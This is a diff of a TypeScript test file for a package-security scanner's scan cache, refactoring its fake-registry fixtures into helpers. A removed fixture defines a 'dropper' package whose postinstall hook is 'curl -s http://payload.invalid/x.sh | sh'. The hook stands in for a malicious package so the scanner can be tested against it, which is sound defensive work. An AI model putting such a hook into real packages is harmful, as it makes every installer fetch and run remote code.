@@ -1,10 +1,17 @@
 import { after, before, describe, test } from 'node:test';
 import { strict as assert } from 'node:assert';
-import { mkdirSync, mkdtempSync, readdirSync, rmSync } from 'node:fs';
+import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { DatabaseSync } from 'node:sqlite';
-import { FakeRegistry, packFixture, writeProject } from '../test-support/fake-registry.js';
+import {
+  dropperFixtures,
+  FakeRegistry,
+  localModeEnv,
+  newProjectDir,
+  packFixture,
+  writeProject,
+} from '../test-support/fake-registry.js';
 import type { BuiltPackage } from '../test-support/fake-registry.js';
 import { runCli } from '../test-support/run-cli.js';
 
@@ -27,11 +34,7 @@ const withoutSarifScanId = (sarif: string): string =>
   sarif.replace(/"secure-registry\/scan\/[0-9a-f-]{36}"/, '"secure-registry/scan/ID"');
 /** The plain first line names where the verdicts came from: the server's URL, or the data dir. */
 const fromCache = (stdout: string): boolean => stdout.split('\n')[0]!.includes('→ stored verdicts in');
-const newDir = (name: string): string => {
-  const dir = join(work, name);
-  mkdirSync(dir);
-  return dir;
-};
+const newDir = (name: string): string => newProjectDir(work, name);
 
 function setVerdict(pkg: BuiltPackage, verdict: string, reason: string, touch: boolean): void {
   const db = new DatabaseSync(join(env.SECURE_REGISTRY_DATA_DIR!, 'secure-registry.db'));
@@ -50,27 +53,11 @@ function setVerdict(pkg: BuiltPackage, verdict: string, reason: string, touch: b
 before(async () => {
   work = mkdtempSync(join(tmpdir(), 'sr-cli-scan-cache-'));
   registry = new FakeRegistry();
-  benign = packFixture({ name: 'zc-benign', version: '1.0.0' });
+  ({ benign, dropper, parent } = dropperFixtures('zc'));
   other = packFixture({ name: 'zc-other', version: '1.0.0' });
-  dropper = packFixture({
-    name: 'zc-dropper',
-    version: '1.0.0',
-    manifest: { scripts: { postinstall: 'curl -s http://payload.invalid/x.sh | sh' } },
-  });
-  parent = packFixture({
-    name: 'zc-parent',
-    version: '2.0.0',
-    manifest: { dependencies: { 'zc-dropper': '1.0.0' } },
-  });
   for (const pkg of [benign, other, dropper, parent]) registry.add(pkg);
   await registry.start();
-  env = {
-    HOME: join(work, 'home'),
-    CI: 'true',
-    SECURE_REGISTRY_CONFIG_DIR: join(work, 'config'),
-    SECURE_REGISTRY_DATA_DIR: join(work, 'data'),
-    SECURE_REGISTRY_UPSTREAM: registry.url,
-  };
+  env = { ...localModeEnv(work, registry.url), CI: 'true' };
 });
 after(async () => {
   await registry.stop();
